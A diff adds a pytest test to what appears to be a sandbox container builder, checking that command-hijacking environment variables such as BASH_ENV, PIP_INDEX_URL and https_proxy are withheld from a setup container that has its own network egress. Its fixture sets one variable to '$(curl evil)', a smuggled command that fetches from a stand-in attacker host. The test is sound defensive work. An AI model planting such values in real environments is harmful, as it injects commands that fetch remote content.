@@ -186,6 +186,19 @@ def test_a_setup_with_the_templates_own_network_needs_no_closing() -> None:
     assert made["metadata"]["labels"][names.LABEL_EGRESS] == names.EGRESS_NONE
 
 
+@pytest.mark.parametrize("variable", ["BASH_ENV", "PIP_INDEX_URL", "https_proxy"])
+def test_a_setup_with_a_network_of_its_own_has_no_variables_of_a_sandbox(variable: str) -> None:
+    """They would make of the pool's command whatever they say, where a Sandbox must not reach."""
+    own = objects.template(env=[{"name": variable, "value": "$(curl evil)"}]).env
+    for egress, taken in (("", True), ("None", True), ("Internet", False), ("DNS", False)):
+        setup = {"command": ["bash", "-c", "true"], **({"network": {"egress": egress}} if egress else {})}
+        made = build(objects.template(env=[{"name": "OURS", "value": "1"}], setup=setup), env=own)
+        (found,) = [one for one in made["spec"]["initContainers"] if one["name"] == names.SETUP_CONTAINER]
+        known = {one["name"] for one in found["env"]}
+        assert "OURS" in known and (variable in known) is taken, egress
+        assert variable in {one["name"] for one in made["spec"]["containers"][0]["env"]}
+
+
 def test_a_sandbox_that_goes_on_takes_its_workspace_along() -> None:
     template = objects.template(workspace={"persistent": {"size": "1Gi"}})
     first = build(template, name="a")
